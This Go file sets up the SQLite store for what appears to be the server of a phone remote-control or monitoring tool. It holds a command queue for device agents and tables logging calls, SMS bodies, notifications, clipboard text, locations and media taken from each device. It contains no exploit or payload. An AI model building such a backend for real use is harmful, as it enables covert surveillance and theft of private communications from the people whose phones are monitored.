package storage

import (
	"database/sql"
	"fmt"
	"os"
	"path/filepath"

	_ "modernc.org/sqlite" // Pure Go SQLite driver (no CGO required)
)

// SQLiteStore implements Store using SQLite.
type SQLiteStore struct {
	BaseStore
}

var _ Store = (*SQLiteStore)(nil)

// NewSQLiteStore creates a new SQLite-backed store.
func NewSQLiteStore(dbPath string) (*SQLiteStore, error) {
	// Ensure directory exists (unless in-memory)
	if dbPath != ":memory:" {
		dir := filepath.Dir(dbPath)
		if err := os.MkdirAll(dir, 0755); err != nil {
			return nil, fmt.Errorf("failed to create db directory: %w", err)
		}
	}

	connStr := dbPath
	if dbPath != ":memory:" {
		connStr += "?_journal_mode=WAL&_synchronous=NORMAL&_foreign_keys=ON"
	}

	db, err := sql.Open("sqlite", connStr)
	if err != nil {
		return nil, fmt.Errorf("failed to open database: %w", err)
	}

	// modernc sqlite misbehaves with concurrent writers on one connection pool;
	// a single connection serializes access and keeps in-memory DBs coherent.
	db.SetMaxOpenConns(1)

	store := &SQLiteStore{
		BaseStore: BaseStore{
			db:      db,
			dialect: &SQLiteDialect{},
			dbPath:  dbPath,
		},
	}

	if err := store.initSchema(); err != nil {
		db.Close()
		return nil, fmt.Errorf("failed to init schema: %w", err)
	}

	return store, nil
}

// initSchema creates tables if they don't exist.
func (s *SQLiteStore) initSchema() error {
	schema := `
	-- Known device agents
	CREATE TABLE IF NOT EXISTS clients (
		id INTEGER PRIMARY KEY AUTOINCREMENT,
		client_id TEXT NOT NULL UNIQUE,
		first_seen DATETIME NOT NULL,
		last_seen DATETIME NOT NULL,
		is_online INTEGER NOT NULL DEFAULT 0,
		dynamic_data TEXT
	);

	CREATE INDEX IF NOT EXISTS idx_clients_client_id ON clients(client_id);
	CREATE INDEX IF NOT EXISTS idx_clients_is_online ON clients(is_online);

	-- Commands queued while a client is unreachable
	CREATE TABLE IF NOT EXISTS command_queue (
		seq INTEGER PRIMARY KEY AUTOINCREMENT,
		id TEXT NOT NULL,
		client_id TEXT NOT NULL,
		command_type TEXT NOT NULL,
		payload TEXT,
		queued_at DATETIME NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_queue_client_id ON command_queue(client_id);

	-- Per-client telemetry logs
	CREATE TABLE IF NOT EXISTS calls (
		id INTEGER PRIMARY KEY AUTOINCREMENT,
		client_id TEXT NOT NULL,
		phone_no TEXT NOT NULL,
		name TEXT,
		direction TEXT,
		duration INTEGER NOT NULL DEFAULT 0,
		date DATETIME NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_calls_client_date ON calls(client_id, date);

	CREATE TABLE IF NOT EXISTS sms (
		id INTEGER PRIMARY KEY AUTOINCREMENT,
		client_id TEXT NOT NULL,
		address TEXT NOT NULL,
		body TEXT,
		date DATETIME NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_sms_client_id ON sms(client_id);

	CREATE TABLE IF NOT EXISTS notifications (
		id INTEGER PRIMARY KEY AUTOINCREMENT,
		client_id TEXT NOT NULL,
		app_name TEXT NOT NULL,
		title TEXT,
		content TEXT,
		post_time DATETIME NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_notifications_client_time ON notifications(client_id, post_time);

	CREATE TABLE IF NOT EXISTS clipboard (
		id INTEGER PRIMARY KEY AUTOINCREMENT,
		client_id TEXT NOT NULL,
		content TEXT NOT NULL,
		captured_at DATETIME NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_clipboard_client_time ON clipboard(client_id, captured_at);

	CREATE TABLE IF NOT EXISTS locations (
		id INTEGER PRIMARY KEY AUTOINCREMENT,
		client_id TEXT NOT NULL,
		latitude REAL NOT NULL,
		longitude REAL NOT NULL,
		accuracy REAL NOT NULL DEFAULT 0,
		date DATETIME NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_locations_client_date ON locations(client_id, date);

	-- Append-only media/download log
	CREATE TABLE IF NOT EXISTS downloads (
		id INTEGER PRIMARY KEY AUTOINCREMENT,
		client_id TEXT NOT NULL,
		media_type TEXT NOT NULL,
		original_name TEXT NOT NULL,
		path TEXT NOT NULL,
		created_at DATETIME NOT NULL
	);

	CREATE INDEX IF NOT EXISTS idx_downloads_client_type ON downloads(client_id, media_type);

	-- Whole-value snapshot sections replaced wholesale by the agent
	CREATE TABLE IF NOT EXISTS snapshots (
		client_id TEXT NOT NULL,
		section TEXT NOT NULL,
		data TEXT NOT NULL,
		updated_at DATETIME NOT NULL,
		PRIMARY KEY (client_id, section)
	);
	`

	if _, err := s.db.Exec(schema); err != nil {
		return fmt.Errorf("failed to create schema: %w", err)
	}

	logDebug("SQLite schema initialized", "path", s.dbPath)
	return nil
}
